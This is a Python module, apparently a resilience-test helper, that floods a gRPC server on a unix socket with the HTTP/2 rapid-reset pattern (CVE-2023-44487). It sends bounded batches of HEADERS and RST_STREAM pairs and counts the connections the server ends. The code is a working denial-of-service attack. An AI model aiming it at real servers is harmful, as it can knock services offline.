"""The HTTP/2 rapid-reset pattern (CVE-2023-44487) against a gRPC server on a unix socket.

Each connection sends HEADERS for a unary call and at once RST_STREAM (CANCEL), as fast as the
socket takes them: the client never has a stream open, so the server's
SETTINGS_MAX_CONCURRENT_STREAMS does not slow it down, while the server may have begun every
call. Bounded in pairs and in time; the server's answers are read and dropped.
"""

from __future__ import annotations

import selectors
import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

REQUEST_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
                   (":path", "/v1beta1.DevicePlugin/Allocate"),
                   ("content-type", "application/grpc"), ("te", "trailers")]
BATCH = 100  # pairs generated per write-ready turn of one connection


@dataclass
class FloodResult:
    pairs: int = 0  # HEADERS + RST_STREAM pairs written
    goaways: int = 0  # connections the server ended with GOAWAY
    closed: int = 0  # connections the server ended (GOAWAY, EOF or error)
    seconds: float = 0.0


@dataclass
class _Client:
    sock: socket.socket
    h2: h2.connection.H2Connection
    out: bytes = b""


def flood(path: str, pairs: int, connections: int = 4, budget: float = 20.0,
          linger: float = 0.5) -> FloodResult:
    """Write ``pairs`` HEADERS+RST_STREAM pairs over ``connections`` connections, opening a new
    one for each that the server ends, then keep reading for ``linger`` seconds (the server is
    still at work); stop after ``budget`` seconds whatever is left."""
    result = FloodResult()
    began = time.monotonic()
    selector = selectors.DefaultSelector()
    owed = pairs
    written: float | None = None  # when the last pair was written

    def open_one() -> None:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(path)
        sock.setblocking(False)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE,
                          _Client(sock, conn, conn.data_to_send()))

    def end(client: _Client) -> None:
        result.closed += 1
        selector.unregister(client.sock)
        client.sock.close()
        if owed > 0:
            open_one()

    for _ in range(connections):
        open_one()
    try:
        while selector.get_map() and time.monotonic() - began < budget:
            for key, mask in selector.select(0.5):
                client: _Client = key.data
                if mask & selectors.EVENT_READ:
                    try:
                        data = client.sock.recv(1 << 16)
                        events = client.h2.receive_data(data) if data else []
                    except (BlockingIOError, InterruptedError):
                        continue
                    except (OSError, h2.exceptions.ProtocolError):
                        data, events = b"", []
                    if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                        result.goaways += 1
                        data = b""
                    if not data:
                        end(client)
                        continue
                    client.out += client.h2.data_to_send()  # SETTINGS and PING acks
                if mask & selectors.EVENT_WRITE:
                    if not client.out and owed > 0:
                        for _ in range(min(BATCH, owed)):
                            stream = client.h2.get_next_available_stream_id()
                            client.h2.send_headers(stream, REQUEST_HEADERS)
                            client.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                            owed -= 1
                            result.pairs += 1
                        client.out = client.h2.data_to_send()
                    if client.out:
                        try:
                            sent = client.sock.send(client.out)
                        except (BlockingIOError, InterruptedError):
                            sent = 0
                        except OSError:
                            end(client)
                            continue
                        client.out = client.out[sent:]
                    if not client.out and owed <= 0:
                        selector.modify(client.sock, selectors.EVENT_READ, client)
            if written is None and owed <= 0 and all(
                    not k.data.out for k in selector.get_map().values()):
                written = time.monotonic()
                result.seconds = written - began
            if written is not None and time.monotonic() - written >= linger:
                break
    finally:
        for key in list(selector.get_map().values()):
            key.data.sock.close()
        selector.close()
    if written is None:
        result.seconds = time.monotonic() - began
    return result
